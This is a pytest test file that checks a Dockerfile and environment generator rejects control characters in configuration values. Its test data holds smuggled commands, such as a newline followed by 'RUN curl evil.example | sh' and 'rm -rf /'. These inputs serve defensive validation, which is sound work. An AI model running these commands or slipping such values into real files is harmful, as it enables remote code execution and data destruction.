# ids (a newline would start a new Dockerfile instruction or shell command)

CONTROL = [  # (file, path, value)
    ("curated/os.toml", ("os", 0, "id"), "ubuntu-22.04\nRUN curl evil.example | sh"),
    ("curated/os.toml", ("os", 0, "name"), "Ubuntu \x1b[31m22.04"),
    ("curated/os.toml", ("os", 0, "family"), "ubuntu\r"),
    ("curated/toolchain.toml", ("conda", "specs", 0), "pip\nrm -rf /"),
    ("curated/toolchain.toml", ("conda", "channels", 0), "conda-forge\x00"),
    ("curated/frameworks.toml", ("constraint", 0, "requires_torch"), ">=2.1\n"),
    ("curated/torch.toml", ("variants", 0, "source"), "https://example.invalid/\nX"),
    ("harvested/torch.json", ("builds", 0, "local"), "cu121\n"),
    ("harvested/torch.json", ("builds", 0, "nccl"), "2.18.1\tx"),
    ("harvested/frameworks.json", ("releases", 0, "version"), "0.14.0\r"),
    ("harvested/cuda.json", ("toolkits", 0, "nvcc_package"), "nvidia-cuda-nvcc\x7f"),
]


@fault("M06", "a control character in a value rendered into files", exit=1)
@pytest.mark.parametrize(("rel", "path", "value"), CONTROL,
                         ids=[f"{c[0].split('/')[1]}-{where(c[1])}" for c in CONTROL])
def test_control_character(resolve, matrix, rel, path, value):
    edit(matrix, rel, path, value)
    expect_facts(resolve, rel, path, False, repr(value)[:8])


@fault("M06", "a control character in a value rendered into files", exit=1)
@pytest.mark.parametrize(("path", "value"), [
    (("base", 0, "image"), "docker.io/library/ubuntu:22.04\nRUN curl evil.example | sh"),
    (("base", 0, "os"), "ubuntu-22.04\r"),
    (("family", "debian", "cc"), "gcc\x00"),
    (("family", "debian", "useradd"), "useradd envgen\nRUN evil"),
    (("ops", "deepspeed", "env", "DS_BUILD_OPS"), "0\nRUN evil"),
    (("venv_toolkit", 0, "setup", 0), "true\nRUN evil"),
], ids=lambda v: where(v) if isinstance(v, tuple) else "")
def test_control_character_in_images_toml(make_image, matrix, path, value):
    edit(matrix, IMAGES, path, value)
    data_error(make_image(), IMAGES, f"{where(path)}: {repr(value)[:8]}")


@fault("M06", "a control character in a value rendered into files", exit=1)
@pytest.mark.parametrize(("rel", "path", "value", "argv"), [
    ("cells.toml", ("cell", 0, "base"), "debian:12\nRUN evil", ("matrix", "github")),
    ("sources.toml", ("index", 0, "url"), "https://pypi.org/simple/\n",
     ("matrix", "update", "--offline")),
], ids=["cells-base", "sources-url"])
def test_control_character_in_other_files(cli, matrix, tmp_path, rel, path, value, argv):
    edit(matrix, rel, path, value)
    r = cli("--matrix-dir", matrix, *argv, "--cache-dir" if "update" in argv else "--locks",
            tmp_path / "x", "--json")
    data_error(r, rel, f"{where(path)}: {repr(value)[:8]}")


def test_a_note_may_span_lines(resolve, matrix):
    """Free text that is never rendered into a file may hold a newline."""
    edit(matrix, "curated/os.toml", ("os", 0, "note"), "first line\nsecond line")
    expect_facts(resolve, "curated/os.toml", (), True)
